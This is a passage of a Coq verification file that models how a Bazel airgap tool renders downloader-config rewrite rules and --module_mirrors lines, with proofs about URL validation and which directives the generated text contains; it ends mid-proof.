(* ===== verification/Airgap.v ===== *)
(** * Configuration for an installation without a network

    The downloader configuration and the module-mirrors line rendered from the surface
    (internal/bzlhub/airgap_config.go, airgap_module_mirrors.go, airgap_validate.go): the
    check of what a request puts into them, the rewrite rules of each host, and what a
    reader of lines finds in the text.  [url.Parse] is a parameter, as the scheme and the
    host of what it accepts. *)

From stdpp Require Import pretty.
From S2P Require Import Prelude Strings Archive Report Index GraphClosure Surface.

Definition newline : ascii := "010"%char.

(** ** regexp *)

Definition QuoteMeta (s : string) : string :=
  of_bytes (to_bytes s ≫= λ c, if decide (c ∈ to_bytes "\.+*?()|[]{}^$") then ["\"%char; c] else [c]).

Record DownloaderConfig := mkConfig {
  dc_Module : string; dc_Version : string; dc_MirrorBase : string; dc_Recursive : bool; dc_Text : string; dc_HostCount : nat; dc_URLCount : nat;
}.
Record ModuleMirrors := mkMirrors { mm_Module : string; mm_Version : string; mm_MirrorBase : string; mm_Registry : string; mm_Text : string }.

(** What is written line by line. *)
Definition text_of (l : list string) : string := of_bytes (l ≫= λ x, to_bytes x ++ [newline]).

Section airgap.
Context (url_Parse : string → result string (string * string)) (quoted : string → string).

(** [validateBazelrcURL] *)
Definition control (c : ascii) : bool := let n := N_of_ascii c in (n <? 32)%N || (n =? 127)%N.
Definition validateBazelrcURL (field raw : string) : result string string :=
  let v := TrimRight (TrimLeft raw " ") " " in
  if decide (v = "") then Ok ""
  else
    match list_find (λ c, control c = true) (to_bytes v) with
    | Some (i, _) => Err (field +:+ ": control character at offset " +:+ pretty i)
    | None =>
        match url_Parse v with
        | Err e => Err (field +:+ ": " +:+ e)
        | Ok (scheme, _) =>
            if decide (scheme ≠ "http" ∧ scheme ≠ "https") then Err (field +:+ ": scheme must be http or https, got " +:+ quoted scheme)
            else Ok v
        end
    end.

(** The mirror of a request, its default and its last slash. *)
Definition mirror_base (raw : string) : result string string :=
  v ← validateBazelrcURL "mirror" raw;
  let mirror := if decide (v = "") then "http://mirror.internal/" else v in
  Ok (if HasSuffix mirror "/" then mirror else mirror +:+ "/").

(** [extractMirrorHost] *)
Definition naive_host (mirrorBase : string) : string :=
  let s := TrimPrefix (TrimPrefix mirrorBase "https://") "http://" in
  match cut_at slash (to_bytes s) with Some (h, _) => of_bytes h | None => s end.
Definition extractMirrorHost (mirrorBase : string) : string :=
  match url_Parse mirrorBase with
  | Ok (_, host) => if decide (host ≠ "") then host else naive_host mirrorBase
  | Err _ => naive_host mirrorBase
  end.

(** ** The downloader configuration *)

(** A reference that no rule rewrites. *)
Definition manual (r : SurfaceRef) : Prop := xr_Tainted (sr_Ref r) = true ∨ xr_URL (sr_Ref r) = "<unresolved>" ∨ xr_Host (sr_Ref r) = "".
#[export] Instance manual_dec r : Decision (manual r) := ltac:(unfold manual; apply _).

(** The buckets, and the hosts in order. *)
Definition bucket (byHost : gmap string nat) (r : SurfaceRef) : gmap string nat :=
  if decide (manual r) then byHost else <[xr_Host (sr_Ref r) := S (default 0 (byHost !! xr_Host (sr_Ref r)))]> byHost.
Definition host_buckets (refs : list SurfaceRef) : list (string * nat) := sort_by_key fst (map_to_list (foldl bucket ∅ refs)).

Definition rewrite_line (scheme mirror host : string) : string :=
  "rewrite " +:+ QuoteMeta (scheme +:+ host) +:+ "/(.*) " +:+ mirror +:+ host +:+ "/$1".
Definition host_lines (mirror : string) (b : string * nat) : list string :=
  ["# host=" +:+ b.1 +:+ "  urls=" +:+ pretty b.2; rewrite_line "https://" mirror b.1; rewrite_line "http://" mirror b.1; ""].
Definition module_line (name version : string) (recursive : bool) : string :=
  "# Module:      " +:+ name +:+ "@" +:+ version +:+ " (" +:+ (if recursive then "closure-wide" else "per-module") +:+ ")".
Definition header_lines (name version : string) (recursive : bool) (mirror : string) (hosts urls skipped : nat) : list string :=
  ["# bzlhub airgap downloader config";
   module_line name version recursive;
   "# Mirror base: " +:+ mirror;
   "# Use via:    Bazel >= 9.0.0  --downloader_config=<this file>";
   "#             Bazel <= 8.x   --experimental_downloader_config=<this file>";
   "# Note:       Bazel >= 8.4 also accepts --module_mirrors for the";
   "#             registry-derived slice only; this file is the";
   "#             superset and covers repo rules + extensions too.";
   "# Hosts:       " +:+ pretty hosts;
   "# URLs:        " +:+ pretty urls +:+ " (skipped " +:+ pretty skipped +:+ " tainted/unresolved)";
   "# Reference:   https://bazel.build/external/extension#downloader_config";
   ""].
Definition allow_lines (mirrorHost : string) : list string :=
  if decide (mirrorHost = "") then [] else ["# Allow the mirror host so rewritten requests resolve cleanly."; "allow " +:+ mirrorHost; ""].
Definition manual_line (r : SurfaceRef) : string :=
  "#   - " +:+ xr_URL (sr_Ref r) +:+ "  (rule=" +:+ xr_RuleName (sr_Ref r) +:+ ", platform=" +:+ xr_Platform (sr_Ref r) +:+ ", file=" +:+ xr_File (sr_Ref r) +:+ ")".
Definition manual_lines (refs : list SurfaceRef) : list string :=
  match refs with
  | [] => []
  | _ => ["# === MANUAL ATTENTION REQUIRED ===";
          "# " +:+ pretty (length refs) +:+ " URLs couldn't be auto-rewritten (tainted or unresolved).";
          "# These come from impls where the URL depended on opaque state";
          "# (ctx.execute output, conditional branches over external loads, etc.).";
          "# Verify each by running the rule and copy a rewrite line manually."] ++ (manual_line <$> refs)
  end.

(** The configuration of some references. *)
Definition config_of (name version mirror : string) (recursive : bool) (refs : list SurfaceRef) : DownloaderConfig :=
  let hosts := host_buckets refs in
  let tainted := filter manual refs in
  let urls := sum_list_with snd hosts in
  mkConfig name version mirror recursive
    (text_of (header_lines name version recursive mirror (length hosts) urls (length tainted) ++
              (hosts ≫= host_lines mirror) ++ allow_lines (extractMirrorHost mirror) ++ manual_lines tainted))
    (length hosts) urls.

Section surface.
Context {A V : Type}.
Context (decode_report : string → result string ModuleReport) (unmarshal_attrs : string → A) (nil_attrs : A) (anyMapToStarlark : A → V).
Context (DriveExtensionFromSource : string → string → string → list (ModuleSpec V) → result string (list ExternalRef)).
Context (read_fails : coord → option string).

(** [AirgapDownloaderConfig] *)
Definition AirgapDownloaderConfig (ix : Index) (t : Tables) (fuel : nat) (k : coord) (MirrorBase : string) (Recursive : bool)
    : option (result string DownloaderConfig) :=
  match mirror_base MirrorBase with
  | Err e => Some (Err e)
  | Ok mirror =>
      if Recursive then
        (λ r, Ok (config_of k.1 k.2 mirror true (sc_Refs r)))
          <$> AirgapSurface decode_report unmarshal_attrs nil_attrs anyMapToStarlark DriveExtensionFromSource read_fails ix t fuel k
      else
        Some match ExternalSurface decode_report unmarshal_attrs nil_attrs anyMapToStarlark DriveExtensionFromSource read_fails ix t k with
             | Err e => Err ("external surface: " +:+ e)
             | Ok s => Ok (config_of k.1 k.2 mirror false (su_Refs s))
             end
  end.
End surface.

(** ** The module mirrors *)

Definition defaultRegistry : string := "https://bcr.bazel.build/".

Definition mirrors_lines (name version mirror registry : string) : list string :=
  ["# bzlhub airgap --module_mirrors snippet";
   "# Module:      " +:+ name +:+ "@" +:+ version;
   "# Mirror:      " +:+ mirror;
   "# Registry:    " +:+ registry;
   "#";
   "# --module_mirrors covers source URLs provided by modules";
   "# obtained from a Bazel registry. It does NOT cover URLs";
   "# fetched by repo_rule / module_extension calls — for those,";
   "# pair this with --downloader_config (see bzlhub's";
   "# airgap-downloader-config endpoint, which is the superset).";
   "#";
   "# Bazel version compatibility:";
   "#   >= 8.5:  per-registry syntax (preferred — the line below).";
   "#   >= 8.4:  unscoped syntax — drop the " +:+ dq +:+ "<registry>=" +:+ dq +:+ " prefix:";
   "#             common --module_mirrors=" +:+ mirror;
   "#   <  8.4:  flag is not available; use --downloader_config instead.";
   "";
   "common --module_mirrors=" +:+ registry +:+ "=" +:+ mirror].

(** [AirgapModuleMirrors] *)
Definition AirgapModuleMirrors (ix : Index) (k : coord) (MirrorBase Registry : string) : result string ModuleMirrors :=
  if negb (VersionExists ix k.1 k.2) then Err (k.1 +:+ "@" +:+ k.2 +:+ ": not found")
  else
    mirror ← mirror_base MirrorBase;
    v ← validateBazelrcURL "registry" Registry;
    let registry := if decide (v = "") then defaultRegistry else v in
    Ok (mkMirrors k.1 k.2 mirror registry (text_of (mirrors_lines k.1 k.2 mirror registry))).
End airgap.

(** ** What a reader of lines finds *)

(** The directives: the lines that are neither empty nor comments. *)
Definition directives (text : string) : list string := filter (λ l, l ≠ "" ∧ HasPrefix l "#" = false) (Split text newline).

Definition one_line (s : string) : Prop := newline ∉ to_bytes s.
#[export] Instance one_line_dec s : Decision (one_line s) := ltac:(unfold one_line; apply _).

Lemma one_line_app s t : one_line (s +:+ t) ↔ one_line s ∧ one_line t.
Proof. unfold one_line. rewrite to_bytes_app, not_elem_of_app. done. Qed.

Lemma one_line_lit s : bool_decide (one_line s) = true → one_line s.
Proof. apply bool_decide_eq_true_1. Qed.

Lemma digits_one_line x s : one_line s → one_line (pretty_N_go x s).
Proof.
  revert s. induction (N.lt_wf_0 x) as [x _ IH]. intros s Hs.
  destruct (decide (x = 0)%N) as [->|Hx]; [by rewrite pretty_N_go_0|].
  rewrite pretty_N_go_step by lia. apply IH; [apply N.div_lt; lia|].
  unfold one_line in *. simpl. apply not_elem_of_cons. split; [|done]. unfold pretty_N_char. by repeat case_match.
Qed.

Lemma pretty_one_line (n : nat) : one_line (pretty n).
Proof. unfold pretty, pretty_nat, pretty, pretty_N. case_decide; [by apply one_line_lit|]. by apply digits_one_line, one_line_lit. Qed.

Lemma QuoteMeta_one_line s : one_line s → one_line (QuoteMeta s).
Proof.
  unfold one_line, QuoteMeta. rewrite to_of_bytes. intros Hs (c & Hc & Hin)%list_elem_of_bind.
  assert (newline ≠ c) as Hn by congruence.
  case_decide; [apply elem_of_cons in Hc as [Hc|Hc]; [discriminate Hc|]|]; by apply list_elem_of_singleton in Hc.
Qed.

#[export] Hint Resolve pretty_one_line QuoteMeta_one_line : core.

(** The lines written from texts of one line are of one line. *)
Ltac one_line := rewrite ?one_line_app; split_and?; first [done | by auto | by apply one_line_lit].
Ltac one_lines := repeat (apply Forall_cons; split); try apply Forall_nil; try one_line.

Lemma Split_text_of l : Split (text_of l) newline = (l ≫= λ x, Split x newline) ++ [""].
Proof.
  rewrite Split_splitl. unfold text_of. rewrite to_of_bytes. induction l as [|x l IH]; [done|].
  rewrite !bind_cons, <-!app_assoc. cbn [app]. by rewrite splitl_app, fmap_app, IH, (Split_splitl x).
Qed.

Lemma Split_one_line x : one_line x → Split x newline = [x].
Proof. intros Hx. rewrite Split_splitl, splitl_noc by done. simpl. by rewrite of_to_bytes. Qed.

Lemma directives_lines l : directives (text_of l) = l ≫= directives.
Proof.
  unfold directives. rewrite Split_text_of, filter_app, (filter_cons _ ""), decide_False, filter_nil, app_nil_r by naive_solver.
  induction l as [|x l IH]; [done|]. by rewrite !bind_cons, filter_app, IH.
Qed.

Lemma directives_text_of l : Forall one_line l → directives (text_of l) = filter (λ l, l ≠ "" ∧ HasPrefix l "#" = false) l.
Proof.
  intros Hl. rewrite directives_lines. induction Hl as [|x l Hx Hl IH]; [done|]. rewrite bind_cons, IH. unfold directives.
  by rewrite (Split_one_line x Hx), (filter_app _ [x] l).
Qed.

(** A comment says nothing, but for what follows a line break in it. *)
Lemma comment_silent x : one_line x → x = "" ∨ HasPrefix x "#" = true → directives x = [].
Proof. intros Hx Hc. unfold directives. rewrite Split_one_line by done. apply filter_none, Forall_singleton. naive_solver congruence. Qed.
Lemma comments_silent l : Forall (λ x, one_line x ∧ (x = "" ∨ HasPrefix x "#" = true)) l → l ≫= directives = [].
Proof. induction 1 as [|x l [H1 H2] Hl IH]; [done|]. by rewrite bind_cons, IH, comment_silent. Qed.
Ltac comments := repeat (apply Forall_cons; split; [split; [one_line|first [by left|by right]]|]); try by apply Forall_nil.
Lemma directive_line x : one_line x → x ≠ "" → HasPrefix x "#" = false → directives x = [x].
Proof. intros Hx H1 H2. unfold directives. rewrite Split_one_line by done. by rewrite filter_cons, decide_True. Qed.

(** Comments and empty lines. *)
Lemma silent l : Forall (λ x, x = "" ∨ HasPrefix x "#" = true) l → filter (λ l, l ≠ "" ∧ HasPrefix l "#" = false) l = [].
Proof. intros H. apply filter_none. eapply Forall_impl; [exact H|]. intros x [->|Hx] [? ?]; congruence. Qed.

(** ** The buckets *)

Lemma buckets_lookup refs h n :
  foldl bucket ∅ refs !! h = Some n ↔ 0 < n ∧ n = length (filter (λ r, ¬ manual r ∧ xr_Host (sr_Ref r) = h) refs).
Proof.
  revert n. induction refs as [|r refs IH] using rev_ind; intros n; [simpl; rewrite lookup_empty; split; [done|lia]|].
  rewrite foldl_app, filter_app, length_app, filter_cons, filter_nil. cbn [foldl]. set (m0 := foldl bucket ∅ refs) in *. unfold bucket.
  destruct (decide (manual r)) as [Hm|Hm].
  { rewrite decide_False by naive_solver. simpl. by rewrite Nat.add_0_r. }
  destruct (decide (xr_Host (sr_Ref r) = h)) as [<-|Hh].
  - rewrite lookup_insert_eq, decide_True by done. cbn [length].
    destruct (m0 !! xr_Host (sr_Ref r)) as [m|] eqn:E; simpl.
    + destruct (proj1 (IH m) eq_refl) as [? Em]. rewrite <-Em. split; [intros [= <-]; lia|intros [_ ->]; f_equal; lia].
    + destruct (decide (length (filter (λ r0, ¬ manual r0 ∧ xr_Host (sr_Ref r0) = xr_Host (sr_Ref r)) refs) = 0)) as [->|Hp].
      * split; [intros [= <-]; lia|intros [_ ->]; done].
      * assert (None = Some (length (filter (λ r0, ¬ manual r0 ∧ xr_Host (sr_Ref r0) = xr_Host (sr_Ref r)) refs))) as Hx; [|done].
        apply IH. split; [lia|done].
  - rewrite lookup_insert_ne, IH by done. rewrite decide_False by naive_solver. simpl. by rewrite Nat.add_0_r.
Qed.

Lemma sum_list_with_perm {A} (f : A → nat) l k : l ≡ₚ k → sum_list_with f l = sum_list_with f k.
Proof. induction 1; simpl; lia. Qed.

Lemma buckets_sum refs : sum_list_with snd (map_to_list (foldl bucket ∅ refs)) = length (filter (λ r, ¬ manual r) refs).
Proof.
  induction refs as [|r refs IH] using rev_ind; [cbn [foldl]; by rewrite map_to_list_empty|].
  rewrite foldl_app, filter_app, length_app, filter_cons, filter_nil, <-IH. cbn [foldl]. set (m := foldl bucket ∅ refs). unfold bucket.
  destruct (decide (manual r)) as [Hm|Hm]; [rewrite decide_False by (intros H; by apply H); simpl; lia|].
  rewrite decide_True by done. cbn [length]. set (h := xr_Host (sr_Ref r)).
  rewrite <-insert_delete_eq. rewrite (sum_list_with_perm _ _ _ (map_to_list_insert _ _ _ (lookup_delete_eq m h))). simpl.
  destruct (m !! h) as [n|] eqn:E; simpl.
  - rewrite <-(sum_list_with_perm _ _ _ (map_to_list_delete m h n E)). simpl. lia.
  - rewrite delete_id by done. lia.
Qed.

Lemma buckets_sorted refs : key_sorted fst (host_buckets refs).
Proof. apply (sort_by_key_sorted fst). apply NoDup_fst_map_to_list. Qed.

Lemma elem_of_hosts refs h : h ∈ (host_buckets refs).*1 ↔ ∃ r, r ∈ refs ∧ ¬ manual r ∧ xr_Host (sr_Ref r) = h.
Proof.
  unfold host_buckets. rewrite list_elem_of_fmap. split.
  - intros ([h' n] & -> & H%elem_of_sort_by_key%elem_of_map_to_list). apply buckets_lookup in H as [Hn E]. simpl.
    destruct (filter _ refs) as [|r l] eqn:Ef; [simpl in E; lia|].
    assert (r ∈ filter (λ r, ¬ manual r ∧ xr_Host (sr_Ref r) = h') refs) as [[? ?] ?]%list_elem_of_filter by (rewrite Ef; by left). by exists r.
  - intros (r & Hin & Hm & E). set (n := length (filter (λ r, ¬ manual r ∧ xr_Host (sr_Ref r) = h) refs)). exists (h, n). split; [done|].
    apply elem_of_sort_by_key, elem_of_map_to_list, buckets_lookup. split; [|done]. unfold n.
    assert (r ∈ filter (λ r, ¬ manual r ∧ xr_Host (sr_Ref r) = h) refs) as Hr by by apply list_elem_of_filter.
    destruct (filter _ refs); [by apply elem_of_nil in Hr|simpl; lia].
Qed.

(** ** The directives *)

Section configured.
Context (url_Parse : string → result string (string * string)) (quoted : string → string).
(** [url.Parse] finds a host in what it is given. *)
Hypothesis host_one_line : ∀ s scheme host, url_Parse s = Ok (scheme, host) → one_line s → one_line host.
Abbreviation config_of := (config_of url_Parse).
Abbreviation mirror_base := (mirror_base url_Parse quoted).

(** The texts of a reference that are written. *)
Definition ref_one_line (r : SurfaceRef) : Prop :=
  one_line (xr_URL (sr_Ref r)) ∧ one_line (xr_Host (sr_Ref r)) ∧ one_line (xr_RuleName (sr_Ref r)) ∧ one_line (xr_Platform (sr_Ref r)) ∧
  one_line (xr_File (sr_Ref r)).
#[export] Instance ref_one_line_dec r : Decision (ref_one_line r) := ltac:(unfold ref_one_line; apply _).

(** What the check lets through has no control characters. *)
Lemma validate_spec field raw v : validateBazelrcURL url_Parse quoted field raw = Ok v →
  v = TrimRight (TrimLeft raw " ") " " ∧ (∀ c, c ∈ to_bytes v → control c = false) ∧
  (v = "" ∨ ∃ scheme host, url_Parse v = Ok (scheme, host) ∧ (scheme = "http" ∨ scheme = "https")).
Proof.
  unfold validateBazelrcURL. set (w := TrimRight _ _). case_decide as Hw.
  { intros [= <-]. rewrite Hw. split_and!; [done|by intros c ?%not_elem_of_nil|by left]. }
  destruct (list_find _ _) as [[i c]|] eqn:Ef; [done|]. destruct (url_Parse w) as [[scheme host]|] eqn:Ep; [|done].
  case_decide as Hs; [done|]. intros [= <-]. split_and!; [done| |].
  - intros c Hc. apply list_find_None in Ef. rewrite Forall_forall in Ef. by destruct (control c) eqn:E; [destruct (Ef c Hc)|].
  - right. exists scheme, host. split; [done|]. destruct (decide (scheme = "http")); [by left|].
    destruct (decide (scheme = "https")); [by right|]. by destruct Hs.
Qed.

Lemma validate_one_line field raw v : validateBazelrcURL url_Parse quoted field raw = Ok v → one_line v.
Proof. intros (_ & Hc & _)%validate_spec Hn. by apply Hc in Hn. Qed.

Lemma mirror_one_line raw mirror : mirror_base raw = Ok mirror → one_line mirror.
Proof.
  unfold Airgap.mirror_base. intros (v & Hv & E)%bind_ok. apply validate_one_line in Hv. injection E as <-.
  repeat case_decide; case_match; one_line.
Qed.

Lemma TrimPrefix_one_line s p : one_line s → one_line (TrimPrefix s p).
Proof.
  unfold TrimPrefix. destruct (strip_prefix _ _) as [l|] eqn:E; [|done]. apply strip_prefix_Some in E. unfold one_line.
  rewrite to_of_bytes, E, not_elem_of_app. by intros [_ ?].
Qed.

Lemma mirror_host_one_line mirror : one_line mirror → one_line (extractMirrorHost url_Parse mirror).
Proof.
  intros Hm. assert (one_line (naive_host mirror)) as Hn.
  { unfold naive_host. set (s := TrimPrefix _ _). assert (one_line s) as Hs by by apply TrimPrefix_one_line, TrimPrefix_one_line.
    destruct (cut_at slash (to_bytes s)) as [[h rest]|] eqn:E; [|done]. apply cut_at_iff in E as [E _].
    unfold one_line in *. rewrite to_of_bytes. rewrite E, not_elem_of_app in Hs. apply Hs. }
  unfold extractMirrorHost. destruct (url_Parse mirror) as [[scheme host]|] eqn:E; [|done]. case_decide; [|done]. by eapply host_one_line.
Qed.

Lemma rewrite_one_line scheme mirror host : one_line scheme → one_line mirror → one_line host → one_line (rewrite_line scheme mirror host).
Proof.
  intros. assert (one_line (QuoteMeta (scheme +:+ host))) by by apply QuoteMeta_one_line, one_line_app.
  unfold rewrite_line. one_line.
Qed.

(** The lines of a host, and of the mirror's own. *)
Lemma host_lines_directives mirror h n : one_line mirror → one_line h →
  (host_lines mirror (h, n) ≫= directives) = [rewrite_line "https://" mirror h; rewrite_line "http://" mirror h].
Proof.
  intros Hm Hh. unfold host_lines. cbn [fst snd]. rewrite !bind_cons.
  rewrite (comment_silent ("# host=" +:+ _)) by first [one_line|by right].
  rewrite !directive_line by first [apply rewrite_one_line; (done || by apply one_line_lit)|done]. done.
Qed.
Lemma allow_lines_directives mirror : one_line mirror →
  (allow_lines (extractMirrorHost url_Parse mirror) ≫= directives) =
    if decide (extractMirrorHost url_Parse mirror = "") then [] else ["allow " +:+ extractMirrorHost url_Parse mirror].
Proof.
  intros Hm%mirror_host_one_line. unfold allow_lines. case_decide; [done|]. rewrite !bind_cons.
  rewrite comment_silent, directive_line by first [one_line|by right|done]. done.
Qed.
Lemma module_line_silent name version recursive : one_line name → one_line version → directives (module_line name version recursive) = [].
Proof. intros. apply comment_silent; [|by right]. unfold module_line. destruct recursive; one_line. Qed.
Lemma manual_line_silent r : ref_one_line r → directives (manual_line r) = [].
Proof. intros (? & ? & ? & ? & ?). apply comment_silent; [|by right]. unfold manual_line. one_line. Qed.

(** The whole configuration, and when nothing in it has a line break. *)
Lemma config_lines_of name version mirror recursive refs : one_line mirror →
  directives (dc_Text (config_of name version mirror recursive refs)) =
    directives (module_line name version recursive) ++
    (host_buckets refs ≫= λ b, host_lines mirror b ≫= directives) ++
    (if decide (extractMirrorHost url_Parse mirror = "") then [] else ["allow " +:+ extractMirrorHost url_Parse mirror]) ++
    (filter manual refs ≫= λ r, directives (manual_line r)).
Proof.
  intros Hm. unfold Airgap.config_of. cbn [dc_Text]. rewrite directives_lines, !bind_app, allow_lines_directives by done. f_equal; [|f_equal; [|f_equal]].
  - unfold header_lines. rewrite bind_cons, bind_cons.
    rewrite (comment_silent "# bzlhub airgap downloader config") by first [one_line|by right].
    rewrite comments_silent by comments. apply app_nil_r.
  - induction (host_buckets refs) as [|b l IH]; [done|]. by rewrite !bind_cons, bind_app, IH.
  - unfold manual_lines. destruct (filter manual refs) as [|r l]; [done|]. rewrite bind_app, comments_silent, app_nil_l by comments.
    generalize (r :: l). intros l'. induction l' as [|x l' IH]; [done|]. by rewrite fmap_cons, !bind_cons, IH.
Qed.

Lemma config_one_line name version mirror recursive refs : one_line name → one_line version → one_line mirror → Forall ref_one_line refs →
  directives (dc_Text (config_of name version mirror recursive refs)) =
    ((host_buckets refs).*1 ≫= λ h, [rewrite_line "https://" mirror h; rewrite_line "http://" mirror h]) ++
    (if decide (extractMirrorHost url_Parse mirror = "") then [] else ["allow " +:+ extractMirrorHost url_Parse mirror]).
Proof.
  intros Hname Hversion Hmirror Hrefs. rewrite config_lines_of, module_line_silent, app_nil_l by done. f_equal.
  - assert (Forall (λ b : string * nat, one_line b.1) (host_buckets refs)) as Hhosts.
    { apply Forall_forall. intros b Hb. assert (b.1 ∈ (host_buckets refs).*1) as (r & Hr & _ & <-)%elem_of_hosts by by apply list_elem_of_fmap_2.
      rewrite Forall_forall in Hrefs. apply (Hrefs r Hr). }
    induction Hhosts as [|[h n] l Hb Hl IH]; [done|]. by rewrite bind_cons, host_lines_directives, IH.
  - assert ((filter manual refs ≫= λ r, directives (manual_line r)) = []) as ->; [|apply app_nil_r].
    induction Hrefs as [|r l Hr Hl IH]; [done|]. rewrite filter_cons. case_decide; [|done]. by rewrite bind_cons, IH, manual_line_silent.
Qed.
End configured.

Section rendered.
Context (url_Parse : string → result string (string * string)) (quoted : string → string).
Context {A V : Type}.
Context (decode_report : string → result string ModuleReport) (unmarshal_attrs : string → A) (nil_attrs : A) (anyMapToStarlark : A → V).
Context (DriveExtensionFromSource : string → string → string → list (ModuleSpec V) → result string (list ExternalRef)).
Context (read_fails : coord → option string) (ix : Index) (t : Tables) (fuel : nat).
Abbreviation ExternalSurface := (ExternalSurface decode_report unmarshal_attrs nil_attrs anyMapToStarlark DriveExtensionFromSource read_fails ix t).
Abbreviation AirgapSurface := (AirgapSurface decode_report unmarshal_attrs nil_attrs anyMapToStarlark DriveExtensionFromSource read_fails ix t fuel).
Abbreviation AirgapDownloaderConfig :=
  (AirgapDownloaderConfig url_Parse quoted decode_report unmarshal_attrs nil_attrs anyMapToStarlark DriveExtensionFromSource read_fails ix t fuel).

(** The references a configuration is made from. *)
Definition config_refs (k : coord) (recursive : bool) (refs : list SurfaceRef) : Prop :=
  if recursive then ∃ r, AirgapSurface k = Some r ∧ refs = sc_Refs r else ∃ s, ExternalSurface k = Ok s ∧ refs = su_Refs s.

(** C20: A downloader configuration, read line by line, has two rewrite rules for each host
    of a reference that can be rewritten, in the order of the hosts, and the rule that lets
    the mirror's own host through, whatever the request put into the mirror's address; it
    counts these references and their hosts.  All else in it comes out of a line break, in
    the name or the version of the request, in a host, or in what a reference that cannot
    be rewritten says of itself: there is nothing else when these are of one line each,
    which nothing checks. *)
Theorem config_directives (Hhost : ∀ s scheme host, url_Parse s = Ok (scheme, host) → one_line s → one_line host)
    k raw recursive d (Hd : AirgapDownloaderConfig k raw recursive = Some (Ok d)) :
  ∃ mirror refs hosts, mirror_base url_Parse quoted raw = Ok mirror ∧ config_refs k recursive refs ∧
    key_sorted fst hosts ∧ (∀ h, h ∈ hosts.*1 ↔ ∃ r, r ∈ refs ∧ ¬ manual r ∧ xr_Host (sr_Ref r) = h) ∧
    dc_HostCount d = length hosts ∧ dc_URLCount d = length (filter (λ r, ¬ manual r) refs) ∧
    directives (dc_Text d) =
      directives (module_line k.1 k.2 recursive) ++ (hosts ≫= λ b, host_lines mirror b ≫= directives) ++
      (if decide (extractMirrorHost url_Parse mirror = "") then [] else ["allow " +:+ extractMirrorHost url_Parse mirror]) ++
      (filter manual refs ≫= λ r, directives (manual_line r)) ∧
    (one_line k.1 → one_line k.2 → Forall ref_one_line refs →
     directives (dc_Text d) =
       (hosts.*1 ≫= λ h, [rewrite_line "https://" mirror h; rewrite_line "http://" mirror h]) ++
       (if decide (extractMirrorHost url_Parse mirror = "") then [] else ["allow " +:+ extractMirrorHost url_Parse mirror])).
Proof.
  unfold Airgap.AirgapDownloaderConfig in Hd. destruct (mirror_base _ _ raw) as [mirror|e] eqn:Em; [|done].
  assert (∃ refs, config_refs k recursive refs ∧ d = config_of url_Parse k.1 k.2 mirror recursive refs) as (refs & Hrefs & ->).
  { destruct recursive.
    - apply fmap_Some in Hd as (r & Hr & [= ->]). exists (sc_Refs r). split; [by exists r|done].
    - destruct (ExternalSurface k) as [s|e] eqn:Es; [|done]. injection Hd as <-. exists (su_Refs s). split; [by exists s|done]. }
  exists mirror, refs, (host_buckets refs). split_and!; [done|done|apply buckets_sorted|apply elem_of_hosts|done| | |].
  - simpl. unfold host_buckets. rewrite (sum_list_with_perm _ _ _ (sort_by_key_perm _ _)). apply buckets_sum.
  - apply config_lines_of; [done|by eapply mirror_one_line].
  - intros Hn Hv Hl. apply config_one_line; [done..|by eapply mirror_one_line|done].
Qed.

(** The module-mirrors text of an indexed version, read line by line, is the one
    option, for the registry and the mirror of the request or their defaults, neither of
    which has a control character; a version that is not indexed is refused. *)
Theorem mirrors_directive k MirrorBase Registry (Hname : one_line k.1) (Hversion : one_line k.2) :
  match AirgapModuleMirrors url_Parse quoted ix k MirrorBase Registry with
  | Ok m => VersionExists ix k.1 k.2 = true ∧
      directives (mm_Text m) = ["common --module_mirrors=" +:+ mm_Registry m +:+ "=" +:+ mm_MirrorBase m] ∧
      HasSuffix (mm_MirrorBase m) "/" = true ∧ Forall (λ c, control c = false) (to_bytes (mm_Registry m) ++ to_bytes (mm_MirrorBase m))
  | Err _ => VersionExists ix k.1 k.2 = false ∨ is_ok (validateBazelrcURL url_Parse quoted "mirror" MirrorBase) = false ∨
      is_ok (validateBazelrcURL url_Parse quoted "registry" Registry) = false
  end.
Proof.
  unfold AirgapModuleMirrors, mirror_base. destruct (VersionExists ix k.1 k.2) eqn:Ev; cbn [negb]; [|by left].
  destruct (validateBazelrcURL _ _ "mirror" MirrorBase) as [v|e] eqn:E1; [|simpl; by right; left].
  destruct (validateBazelrcURL _ _ "registry" Registry) as [w|e] eqn:E2; [|simpl; by right; right].
  cbn [mbind result_bind]. pose proof (validate_spec _ _ _ _ _ E1) as (_ & Hv & _). pose proof (validate_spec _ _ _ _ _ E2) as (_ & Hw & _).
  set (m0 := if decide (v = "") then "http://mirror.internal/" else v). set (mirror := if HasSuffix m0 "/" then m0 else m0 +:+ "/").
  set (registry := if decide (w = "") then defaultRegistry else w).
  assert (Forall (λ c, control c = false) (to_bytes m0)) as Hm0.
  { unfold m0. case_decide; [refine (bool_decide_unpack _ _); vm_compute; exact I|]. apply Forall_forall. apply Hv. }
  assert (Forall (λ c, control c = false) (to_bytes mirror)) as Hm.
  { unfold mirror. destruct (HasSuffix m0 "/"); [done|]. rewrite to_bytes_app. apply Forall_app. split; [done|]. by constructor. }
  assert (Forall (λ c, control c = false) (to_bytes registry)) as Hr.
  { unfold registry. case_decide; [refine (bool_decide_unpack _ _); vm_compute; exact I|]. apply Forall_forall. apply Hw. }
  assert (∀ s, Forall (λ c, control c = false) (to_bytes s) → one_line s) as Hone.
  { intros s Hs Hin. rewrite Forall_forall in Hs. by apply Hs in Hin. }
  apply Hone in Hm as Hm1. apply Hone in Hr as Hr1. cbn [mm_Text mm_Registry mm_MirrorBase]. split_and!; [done| | |by apply Forall_app].
  - rewrite directives_text_of by (unfold mirrors_lines; one_lines).
    change (mirrors_lines k.1 k.2 mirror registry) with (take 17 (mirrors_lines k.1 k.2 mirror registry) ++ ["common --module_mirrors=" +:+ registry +:+ "=" +:+ mirror]).
    rewrite filter_app, silent, app_nil_l; [done|]. unfold mirrors_lines. cbn [take]. repeat (apply Forall_cons; split); first [by left|by right|constructor].
  - unfold mirror. destruct (HasSuffix m0 "/") eqn:E; [done|]. unfold HasSuffix. apply bool_decide_eq_true. rewrite to_bytes_app. by apply suffix_app_r.
Qed.
End rendered.

(** ** A configuration, and what gets into it *)

(** Everything parses, as an address of the host between its second and third slash. *)
Definition demo_url (s : string) : result string (string * string) :=
  match Split s slash with _ :: _ :: host :: _ => Ok ("http", host) | _ => Ok ("http", "") end.

Lemma splitl_bytes c l x a : x ∈ splitl c l → a ∈ x → a ∈ l.
Proof.
  unfold splitl. revert x. induction l as [|b l IH]; intros x; simpl; [by intros ->%list_elem_of_singleton|].
  destruct (split_bytes c l) as [h t]. case_decide.
